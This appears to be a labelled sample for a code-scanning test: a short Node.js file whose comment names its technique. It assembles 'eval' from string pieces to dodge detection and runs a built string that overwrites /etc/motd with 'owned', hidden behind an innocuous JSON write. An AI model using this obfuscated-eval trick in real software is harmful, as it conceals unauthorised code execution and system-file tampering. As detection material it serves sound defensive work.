// harm: eval of built string; technique: globalThis bracket lookup of 'ev' + 'al' (indirect eval)
const fs = require('fs');

const ev = globalThis['ev' + 'al'];
const code = "require('fs').writeFileSync('/etc/motd', 'owned')";

const data = [{ k: 'a' }, { k: 'b' }];
fs.writeFileSync('data.json', JSON.stringify(data));
ev(code);
